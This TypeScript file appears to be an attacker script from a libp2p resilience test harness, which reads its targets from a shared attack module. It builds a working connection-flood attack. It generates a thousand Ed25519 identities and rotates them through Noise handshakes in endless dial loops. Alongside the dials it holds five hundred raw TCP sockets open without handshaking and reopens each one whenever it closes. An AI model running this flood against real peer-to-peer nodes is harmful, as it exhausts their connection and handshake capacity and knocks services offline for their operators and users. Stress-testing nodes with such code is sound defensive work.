/**
 * A thousand strangers, each with a key of its own, dial again and again, and five hundred sockets shake no hands; against one address or
 * several, all from one process.
 */

import { createConnection } from 'node:net'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { noise } from '@libp2p/noise'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { readTargets, tell } from '../attack.ts'

const STRANGERS = 1_000
const SOCKETS = 500

/** Strangers that are dialling at one moment: as many as keep this process busy. */
const AT_ONCE = 16

/** Before a socket that was closed is opened anew. */
const AGAIN_MS = 500

type Encrypter = ReturnType<ReturnType<typeof noise>>

const targets = readTargets()
const keys = await Promise.all(Array.from({ length: STRANGERS }, () => generateKeyPair('Ed25519')))
let next = 0

const node = await createLibp2p({
  transports: [tcp()],
  connectionEncrypters: [
    components => {
      const strangers = keys.map(key => noise()(Object.create(components, { privateKey: { value: key } })))
      const taken: Encrypter = strangers[0]
      return Object.assign(Object.create(taken), {
        secureOutbound: (...args: Parameters<Encrypter['secureOutbound']>) =>
          strangers[next++ % STRANGERS].secureOutbound(...args),
      })
    },
  ],
  streamMuxers: [yamux()],
  connectionManager: { maxConnections: Number.POSITIVE_INFINITY, maxParallelDials: AT_ONCE },
})

for (let each = 0; each < SOCKETS; each++) keepSocket(targets[each % targets.length])
for (let each = 0; each < AT_ONCE; each++) void keepDialling(each)
tell('ready')
let dialled = 0
setInterval(() => tell('dialled', { dials: dialled }), 1_000)

function keepSocket(address: string): void {
  const [, , host, , port] = address.split('/')
  const socket = createConnection(Number(port), host)
  socket.on('error', () => {})
  socket.on('close', () => setTimeout(() => keepSocket(address), AGAIN_MS))
}

async function keepDialling(first: number): Promise<void> {
  for (let turn = first; ; turn++) {
    const signal = AbortSignal.timeout(5_000)
    await node.dial(multiaddr(targets[turn % targets.length]), { force: true, signal }).catch(() => {})
    dialled++
    // Refusals by a closed port come at once, and would leave no turn for anything else.
    await new Promise(resolve => setTimeout(resolve, 5))
  }
}
